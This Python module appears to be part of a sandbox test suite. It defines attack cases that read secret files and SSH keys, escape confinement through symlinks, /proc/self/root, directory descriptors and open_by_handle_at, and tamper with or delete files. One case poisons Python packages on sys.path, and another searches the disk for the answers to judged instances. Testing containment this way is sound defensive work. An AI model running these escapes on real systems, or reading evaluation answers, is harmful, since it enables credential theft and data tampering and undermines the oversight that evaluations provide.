"""Attacks on files: reading what is secret, learning what there is, changing what is outside."""

import os
import sys
from pathlib import Path

from selftaught.testing.attacks.attack import Attack, Judge, Report, secret_came_back
from selftaught.testing.attacks.attacked_host import AttackedHost


def _changed(report: Report, host: AttackedHost) -> bool:
    return host.read("secret.txt") != host.secret


def _created(report: Report, host: AttackedHost) -> bool:
    return os.path.lexists(host.folder / "made")


def _mode_changed(report: Report, host: AttackedHost) -> bool:
    return (host.folder / "secret.txt").stat().st_mode & 0o777 != 0o666


def _times_changed(report: Report, host: AttackedHost) -> bool:
    return (host.folder / "secret.txt").stat().st_mtime < 1000


def _attribute_set(report: Report, host: AttackedHost) -> bool:
    return "user.mark" in os.listxattr(host.folder / "secret.txt")


def _size_was_told(report: Report, host: AttackedHost) -> bool:
    facts = (host.folder / "secret.txt").stat()
    return bool(report.value == [facts.st_size, facts.st_ino, facts.st_mtime])


def _packages_are_poisoned(report: Report, host: AttackedHost) -> bool:
    """Look for the marked file in every folder that was tried, and remove it."""
    tried = [*map(Path, host.facts["search_path"]), host.folder / "site-packages" / "__pycache__"]
    found = [p for folder in tried if (p := folder / f"{host.marker}.pyc").exists()]
    for path in found:
        path.unlink()
    changed = (host.folder / "site-packages" / "victim.py").read_text() != "VALUE = 1\n"
    return bool(found) or changed


READING = (
    Attack(
        name="read_a_secret_file",
        gains="whatever any file holds",
        body="def attack():\n    return open(HOST['secret_file']).read()",
        succeeds=secret_came_back,
    ),
    Attack(
        name="read_an_ssh_key",
        gains="a key with which to log in elsewhere",
        body="def attack():\n    return open(HOST['ssh_key']).read()",
        succeeds=secret_came_back,
    ),
    Attack(
        name="search_the_disk_for_hidden_instances",
        gains="the answers to the instances it is judged on",
        body="""
            def attack():
                found = []
                beside = os.path.dirname(HOST["folder"])
                for top in (HOST["folder"], beside):
                    for folder, folders, names in os.walk(top):
                        if folder == beside:
                            folders[:] = [f for f in folders if f.startswith("attacked-")]
                        for name in {"instances.json"}.intersection(names):
                            try:
                                found.append(open(os.path.join(folder, name)).read())
                            except OSError:
                                pass
                return found
        """,
        succeeds=secret_came_back,
    ),
    Attack(
        name="read_through_a_symbolic_link",
        gains="a file outside, by a name inside",
        body="""
            def attack():
                def through(folder):
                    name = os.path.join(folder, HOST["marker"])
                    os.symlink(HOST["secret_file"], name)
                    try:
                        return open(name).read()
                    finally:
                        os.unlink(name)
                folders = (HOST["folder"], os.getcwd(), "/tmp", "/dev/shm", "/var/tmp")
                return first_that_works([lambda f=f: through(f) for f in folders])
        """,
        succeeds=secret_came_back,
    ),
    Attack(
        name="read_through_proc_self_root",
        gains="the root folder from before the sandbox",
        body="""
            def attack():
                roots = ("self/root", "thread-self/root", f"{HOST['pid']}/root", "1/root",
                         "self/cwd/../../../../../..", f"{HOST['victim']}/root")
                return first_that_works([
                    lambda r=r: open(f"/proc/{r}{HOST['secret_file']}").read() for r in roots])
        """,
        on_a_process=True,
        succeeds=secret_came_back,
    ),
    Attack(
        name="read_through_a_folder_descriptor",
        gains="a way up from a folder that may be opened",
        body="""
            def attack():
                path = "../" * 12 + HOST["secret_file"].lstrip("/")
                def below(folder, flags):
                    descriptor = os.open(folder, flags)
                    try:
                        return os.read(os.open(path, os.O_RDONLY, dir_fd=descriptor), 100).decode()
                    finally:
                        os.close(descriptor)
                folders = ["/", os.path.dirname(os.__file__), os.getcwd(), HOST["folder"]]
                flags = [os.O_RDONLY | os.O_DIRECTORY, os.O_PATH | os.O_DIRECTORY]
                return first_that_works(
                    [lambda a=a, b=b: below(a, b) for a in folders for b in flags])
        """,
        succeeds=secret_came_back,
    ),
    Attack(
        name="read_through_a_file_handle",
        gains="any file of a file system, past every rule about paths",
        needs="root, and a file system with handles",
        body="""
            def attack():
                handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 200)
                mount = ctypes.c_int()
                kernel("name_to_handle_at", -100, HOST["secret_file"].encode() + b"\\0", handle,
                       ctypes.byref(mount), 0)
                top = os.open(HOST["folder"], os.O_RDONLY)
                return os.read(kernel("open_by_handle_at", top, handle, 0), 100).decode()
        """,
        succeeds=secret_came_back,
    ),
    Attack(
        name="list_a_folder",
        gains="the names of files",
        body="def attack():\n    return os.listdir(HOST['folder'])",
        succeeds=lambda report, host: "instances.json" in report.text,
    ),
    Attack(
        name="stat_a_file",
        gains="which files there are, how large, when changed",
        body="""
            def attack():
                facts = os.stat(HOST["secret_file"])
                return [facts.st_size, facts.st_ino, facts.st_mtime]
        """,
        succeeds=_size_was_told,
        metadata_only=True,
    ),
    Attack(
        name="read_where_a_link_points",
        gains="names, and whatever else people put into links",
        body="def attack():\n    return os.readlink(HOST['link'])",
        succeeds=secret_came_back,
        metadata_only=True,
    ),
)


def _change(
    name: str, gains: str, statement: str, succeeds: Judge = _created, needs: str = ""
) -> Attack:
    """An attack of one statement on the path `s` of the secret file or the new path `new`."""
    body = (
        "def attack():\n"
        "    s, new = HOST['secret_file'], os.path.join(HOST['folder'], 'made')\n"
        f"    {statement}\n"
        "    return 'done'\n"
    )
    return Attack(name=name, gains=gains, body=body, succeeds=succeeds, needs=needs)


CHANGING = (
    _change("write_a_new_file", "a place to leave things", "open(new, 'w').write('x')"),
    _change("overwrite_a_file", "another's data", "open(s, 'w').write('x')", _changed),
    _change("append_to_a_file", "another's data", "open(s, 'a').write('x')", _changed),
    _change("truncate_a_file", "the loss of data", "os.truncate(s, 1)", _changed),
    _change("remove_a_file", "the loss of data", "os.unlink(s)", _changed),
    _change("rename_a_file", "another's place", "os.rename(s, new)"),
    _change("link_a_file", "a second name for a file", "os.link(s, new)"),
    _change("make_a_symbolic_link", "a trap for others", "os.symlink('/', new)"),
    _change("make_a_folder", "a place to leave things", "os.mkdir(new)"),
    _change("make_a_fifo", "a channel to other programs", "os.mkfifo(new)"),
    _change("change_permissions", "others' access", "os.chmod(s, 0o600)", _mode_changed),
    _change("change_times", "false traces", "os.utime(s, (1, 1))", _times_changed),
    _change(
        "set_an_attribute",
        "a place to leave things",
        "os.setxattr(s, 'user.mark', b'x')",
        _attribute_set,
        needs="a file system with user attributes",
    ),
    Attack(
        name="poison_packages_for_later_runs",
        gains="code that runs whenever a module is imported",
        body="""
            def attack():
                folders = [*HOST["search_path"], os.path.join(HOST["package"], "__pycache__")]
                def leave(path):
                    open(path, "wb").write(b"x")
                def rewrite(path):
                    open(path, "a").write("VALUE = 2")
                    return "done"
                names = [os.path.join(f, HOST["marker"] + ".pyc") for f in folders]
                first_that_works([lambda n=n: leave(n) for n in names]
                                 + [lambda: rewrite(HOST["victim_module"])])
                return "done"
        """,
        succeeds=_packages_are_poisoned,
        facts={"search_path": [p for p in sys.path if os.path.isdir(p)]},
        # Without a sandbox only the folder that was made for the purpose.
        control_facts={"search_path": []},
    ),
)

ATTACKS = READING + CHANGING
